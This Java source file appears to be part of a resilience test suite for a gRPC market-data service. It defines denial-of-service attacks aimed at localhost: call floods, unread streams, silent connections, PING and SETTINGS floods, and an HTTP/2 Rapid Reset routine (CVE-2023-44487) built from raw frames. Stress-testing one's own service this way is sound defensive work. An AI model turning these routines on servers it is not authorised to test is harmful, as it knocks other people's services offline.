package io.github.pitrunner.abuse;

import io.github.pitrunner.endtoend.Caller;
import io.github.pitrunner.v1.GetQuoteRequest;
import io.github.pitrunner.v1.GetQuoteResponse;
import io.github.pitrunner.v1.MarketDataServiceGrpc;
import io.github.pitrunner.v1.StreamQuotesRequest;
import io.github.pitrunner.v1.StreamQuotesResponse;
import io.grpc.CallOptions;
import io.grpc.Channel;
import io.grpc.ClientCall;
import io.grpc.ManagedChannel;
import io.grpc.ManagedChannelBuilder;
import io.grpc.Metadata;
import io.grpc.Status;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentSkipListMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/** The ways in which a client misbehaves, but for broken calls. */
final class Attacks {
  private static final Duration PATIENCE = Duration.ofSeconds(30);

  private Attacks() {}

  /** A client with a key, and how its calls end. */
  private abstract static class WithKey implements Attack {
    final List<ManagedChannel> channels = new ArrayList<>();
    final Map<String, Integer> ends = new ConcurrentSkipListMap<>();
    private final int port;
    private final String apiKey;

    // Told to end; read by the client's own threads.
    volatile boolean isOver;

    WithKey(int port, String apiKey) {
      this.port = port;
      this.apiKey = apiKey;
    }

    Channel connect() {
      ManagedChannel connection =
          ManagedChannelBuilder.forAddress("127.0.0.1", port).usePlaintext().build();
      channels.add(connection);
      return GoodCaller.withKey(connection, apiKey);
    }

    void count(Status status) {
      ends.merge(status.getCode().name(), 1, Integer::sum);
    }

    @Override
    public String summary() {
      return ends.toString();
    }

    @Override
    public void close() {
      isOver = true;
      channels.forEach(ManagedChannel::shutdownNow);
      try {
        for (ManagedChannel connection : channels) {
          boolean unused = connection.awaitTermination(10, TimeUnit.SECONDS);
        }
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }
  }

  /** As many calls as so many at a time can be. */
  static Attack flood(int port, String apiKey, int atOnce) {
    return new WithKey(port, apiKey) {
      @Override
      public void begin() {
        Channel channel = connect();
        for (int i = 0; i < atOnce; i++) {
          again(channel);
        }
      }

      private void again(Channel channel) {
        ClientCall<GetQuoteRequest, GetQuoteResponse> call =
            channel.newCall(MarketDataServiceGrpc.getGetQuoteMethod(), CallOptions.DEFAULT);
        call.start(
            new ClientCall.Listener<>() {
              @Override
              public void onClose(Status status, Metadata trailers) {
                count(status);
                if (!isOver) {
                  again(channel);
                }
              }
            },
            new Metadata());
        call.request(2);
        call.sendMessage(GetQuoteRequest.newBuilder().setInstrument(Caller.stock("IBM")).build());
        call.halfClose();
      }
    };
  }

  /** Streams of every tick that nobody reads, over some connections. */
  static Attack streams(int port, String apiKey, int connections, int streams) {
    return new WithKey(port, apiKey) {
      @Override
      public void begin() {
        for (int i = 0; i < connections; i++) {
          Channel channel = connect();
          for (int k = 0; k < streams / connections; k++) {
            open(channel);
          }
        }
      }

      private void open(Channel channel) {
        ClientCall<StreamQuotesRequest, StreamQuotesResponse> call =
            channel.newCall(MarketDataServiceGrpc.getStreamQuotesMethod(), CallOptions.DEFAULT);
        call.start(
            new ClientCall.Listener<>() {
              @Override
              public void onClose(Status status, Metadata trailers) {
                count(status);
              }
            },
            new Metadata());
        // Nothing is asked for: what comes waits with the service, and with its connection.
        call.sendMessage(
            StreamQuotesRequest.newBuilder()
                .addInstruments(Caller.stock("AAPL"))
                .addInstruments(Caller.stock("MSFT"))
                .setEveryTick(true)
                .build());
        call.halfClose();
      }
    };
  }

  /** A client that speaks by hand, on a thread of its own. */
  private abstract static class ByHand implements Attack {
    private final String name;
    private Thread thread = new Thread();

    volatile boolean isOver;
    final AtomicInteger rounds = new AtomicInteger();
    final AtomicInteger refused = new AtomicInteger();

    ByHand(String name) {
      this.name = name;
    }

    abstract void round() throws IOException, InterruptedException;

    @Override
    public void begin() {
      thread =
          new Thread(
              () -> {
                while (!isOver) {
                  try {
                    round();
                  } catch (IOException e) {
                    refused.incrementAndGet();
                  } catch (InterruptedException e) {
                    return;
                  }
                  rounds.incrementAndGet();
                }
              },
              name);
      thread.setDaemon(true);
      thread.start();
    }

    @Override
    public String summary() {
      return "%d rounds, %d of them ended by the service".formatted(rounds.get(), refused.get());
    }

    @Override
    public void close() {
      isOver = true;
      thread.interrupt();
      try {
        thread.join(10_000);
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }
  }

  /** Connections on which nothing is ever said, so many, opened anew when they are closed. */
  static Attack silence(int port, int connections) {
    List<RawConnection> open = new ArrayList<>();
    return new ByHand("silence") {
      @Override
      void round() throws IOException, InterruptedException {
        if (open.size() < connections) {
          open.add(RawConnection.silent(port, PATIENCE));
        } else {
          Thread.sleep(50);
        }
      }

      @Override
      public String summary() {
        return "%d connections, on which nothing is said".formatted(open.size());
      }

      @Override
      public void close() {
        super.close();
        open.forEach(RawConnection::close);
      }
    };
  }

  /** Streams that are begun and given up at once (CVE-2023-44487). */
  static Attack rapidReset(int port) {
    return new ByHand("rapid-reset") {
      @Override
      void round() throws IOException {
        try (RawConnection connection = RawConnection.open(port, PATIENCE)) {
          for (int stream = 1; stream < 20_000 && !isOver; stream += 2) {
            connection.headers(
                stream,
                false,
                new DefaultHttp2Headers(false)
                    .method("POST")
                    .scheme("http")
                    .path("/pitrunner.v1.GatewayService/GetStatus")
                    .authority("localhost")
                    .add("content-type", "application/grpc")
                    .add("te", "trailers"));
            connection.frame(RawConnection.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
          }
        }
      }
    };
  }

  /** Pings without end. */
  static Attack pings(int port) {
    return new ByHand("pings") {
      @Override
      void round() throws IOException {
        try (RawConnection connection = RawConnection.open(port, PATIENCE)) {
          while (!isOver) {
            connection.frame(RawConnection.PING, 0, 0, new byte[8]);
          }
        }
      }
    };
  }

  /** Settings without end, each of which wants to be acknowledged. */
  static Attack settings(int port) {
    return new ByHand("settings") {
      @Override
      void round() throws IOException {
        try (RawConnection connection = RawConnection.open(port, PATIENCE)) {
          while (!isOver) {
            connection.frame(RawConnection.SETTINGS, 0, 0, new byte[0]);
          }
        }
      }
    };
  }
}
